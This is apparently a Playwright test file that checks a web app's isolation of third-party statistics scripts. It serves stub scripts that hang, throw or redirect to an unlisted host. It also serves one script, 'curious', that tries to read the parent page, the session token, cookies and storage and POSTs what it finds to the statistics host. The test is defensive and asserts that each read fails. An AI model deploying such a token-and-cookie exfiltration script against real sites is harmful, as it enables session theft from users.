import { contract } from "@baize/api-client/contract";
import { loadBrand } from "@baize/brand";
import { paths } from "@baize/domain";
import { expect, type Request, type Route, test } from "@playwright/test";
import { siteOf } from "../ports.ts";
import { visit } from "./member.ts";
import { PHONE } from "./surfaces.ts";
import { signIn, wireMember } from "./wire-member.ts";

const site = siteOf("10001");
const [listed] = loadBrand("10001").brand.statistics;
const HOST = new URL(listed?.url ?? "").origin;
/** Hosts that the brand does not name. */
const UNLISTED = "https://count.elsewhere.example";

/** What a script says of what it found, and each view of a page. */
interface Told {
  readonly found?: Readonly<Record<string, string>>;
  readonly view?: { readonly path: string };
}

/** Runs in the page of the statistics: a script that takes what it can, and tells its host. */
const curious = (host: string): void => {
  const tell = (what: unknown): void =>
    void fetch(`${host}/told`, { method: "POST", mode: "no-cors", body: JSON.stringify(what) });
  const attempt = (read: () => unknown): string => {
    try {
      return String(read());
    } catch (error) {
      return (error as Error).name;
    }
  };
  tell({
    found: {
      parent: attempt(() => parent.document.documentElement.outerHTML),
      parentStorage: attempt(() => parent.sessionStorage.getItem("token")),
      cookie: attempt(() => document.cookie),
      localStorage: attempt(() => JSON.stringify(localStorage)),
      sessionStorage: attempt(() => JSON.stringify(sessionStorage)),
      opener: attempt(() => top?.location.href),
      key: document.currentScript?.dataset["platformCk"] ?? "",
    },
  });
  const { pageViews } = globalThis as unknown as { pageViews: unknown[] };
  const push = (view: unknown): number => {
    tell({ view });
    return 0;
  };
  pageViews.splice(0).forEach(push);
  pageViews.push = push;
};

test(
  "scripts of statistics that hang, throw or lead elsewhere hold up nothing, and one that spies gets views alone",
  PHONE,
  async ({ page, context }, info) => {
    const member = await wireMember(site, info);
    await signIn(context, member);
    const told: Told[] = [];
    /** What the host was asked for, after the page's policy let it pass. */
    const served = new Set<string>();
    /** What was asked of others than the site and the host, with what became of it. */
    const elsewhere: string[] = [];
    const note = (request: Request): void => {
      const url = request.url();
      if (!url.startsWith(site) && !url.startsWith(HOST))
        elsewhere.push(`${url} ${request.failure()?.errorText ?? ""}`);
    };
    page.on("requestfailed", note);
    page.on("requestfinished", note);
    await page.route(`**${contract.service.md.path}`, async (route) => {
      const response = await route.fetch();
      const answer = (await response.json()) as { data: object };
      const stats = [`${UNLISTED}/v1.js`, ...["leads", "hangs", "throws", "v1"].map((name) => `${HOST}/${name}.js`)];
      await route.fulfill({
        response,
        json: { ...answer, data: { ...answer.data, stats: stats.map((url) => ({ url, platform_ck: "10001-web" })) } },
      });
    });
    const answers: Readonly<Record<string, (route: Route) => Promise<void>>> = {
      "/leads.js": async (route) => route.fulfill({ status: 302, headers: { location: `${UNLISTED}/led.js` } }),
      "/hangs.js": async () => undefined,
      "/throws.js": async (route) =>
        route.fulfill({ contentType: "text/javascript", body: 'throw new Error("thrown")' }),
      "/v1.js": async (route) =>
        route.fulfill({ contentType: "text/javascript", body: `(${String(curious)})(${JSON.stringify(HOST)})` }),
      "/told": async (route) => {
        told.push(route.request().postDataJSON() as Told);
        await route.fulfill({ status: 204 });
      },
    };
    await page.route(`${HOST}/**`, async (route) => {
      const { pathname } = new URL(route.request().url());
      served.add(pathname);
      await answers[pathname]?.(route);
    });

    await page.goto(site);
    await visit(page, paths.user);
    await expect(page.getByRole("main")).toContainText(member.person.username);
    await expect
      .poll(() => told.find(({ found }) => found !== undefined)?.found)
      .toEqual({
        parent: "SecurityError",
        parentStorage: "SecurityError",
        cookie: "SecurityError",
        localStorage: "SecurityError",
        sessionStorage: "SecurityError",
        opener: "SecurityError",
        key: "10001-web",
      });
    await page
      .getByRole("main")
      .getByRole("link", { name: /^(充值|Deposit)/ })
      .first()
      .click();
    await expect(page.getByRole("textbox", { name: /^充值金额/ })).toBeVisible();
    const views = (): (string | undefined)[] => told.flatMap(({ view }) => (view === undefined ? [] : [view.path]));
    await expect.poll(views).toEqual([paths.user, paths.deposit]);

    await expect.poll(() => served).toEqual(new Set(Object.keys(answers)));
    // The policy of the page ends the redirect; one that was sent would say that there is no such host.
    await expect.poll(() => elsewhere).toEqual([`${UNLISTED}/led.js net::ERR_ABORTED`]);
    expect(await page.evaluate(() => sessionStorage.getItem("token"))).not.toBeNull();
    await page.unrouteAll({ behavior: "ignoreErrors" });
  },
);
